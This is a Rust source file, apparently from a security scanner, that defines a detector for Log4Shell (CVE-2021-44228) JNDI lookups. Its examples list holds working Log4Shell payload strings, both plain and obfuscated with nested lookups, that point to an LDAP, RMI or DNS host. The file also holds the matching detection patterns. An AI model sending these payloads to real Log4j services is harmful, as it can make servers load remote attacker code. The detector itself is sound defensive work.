//! JNDI lookups as Log4j 2 resolves them.

use crate::detect::{Detector, Examples, Found, Signal, Strength, Value, any_case::starts};

mod lookup;

/// Log4Shell: text that Log4j 2 before 2.17 replaces with what a server names that the attacker chose
/// (CVE-2021-44228, CVE-2021-45046; CWE-917).
///
/// Lookups nest, so that `${jndi:` can be spelled in many ways: `${${lower:j}ndi:`, `${${::-j}${env:X:-n}di:`. They are
/// resolved here as the library does; who spells a lookup's name with lookups hides it.
pub(super) struct Log4j;

impl Detector for Log4j {
    fn signal(&self) -> Signal {
        Signal::Log4jJndi
    }

    fn summary(&self) -> &'static str {
        "a lookup of Log4j 2 that loads code from a server (Log4Shell)"
    }

    fn examples(&self) -> Examples {
        Examples {
            found: &[
                "${jndi:ldap://host.example/a}",
                "${JNDI:rmi://host.example/a}",
                "${${lower:j}${upper:n}di:dns://host.example}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://host.example/a}",
                "${${env:NONE:-j}ndi${env:NONE:-:}ldap://host.example/a}",
                "${jn${date:'d'}i:ldap://host.example/a}",
                "$${jndi:ldap://host.example/a}",
                "${ jndi:ldap://host.example/a}",
                "jn${lower:d}i ${${a:b:-j}ndi",
            ],
            passed: &[
                "cd ${HOME}/src && echo ${PATH}",
                "echo ${name:-nobody} ${1:-x}",
                "`${user.name} is ${user.age > 17 ? 'of age' : 'minor'}`",
                "`${rows.map((r) => `${r.a}`).join('')}`",
                "image: ${REGISTRY:-${MIRROR:-docker.io}}/app:${TAG:-latest}",
                "${project.version} ${{ github.ref }}",
                "jndi:ldap is a JNDI URL",
                "${",
            ],
        }
    }

    fn literals(&self) -> &'static [&'static str] {
        &["${", "$&lbrace", "$&lcub", "$&#123", "$&#x7b"]
    }

    fn examine(&self, value: &Value<'_>, found: &mut Found) {
        lookup::examine(value.bytes, found);
        // Only who hides `${` writes one half of it as a character reference.
        if let Some(at) = memchr::memmem::find(value.bytes, b"$&") {
            let rest = value.bytes.get(at + 2..).unwrap_or_default();
            let halves: [&[u8]; 4] = [b"lbrace", b"lcub", b"#123", b"#x7b"];
            if halves.iter().any(|half| starts(rest, half)) {
                found.push("${ with an encoded brace", Strength::Strong, at..at + 2);
            }
        }
    }
}
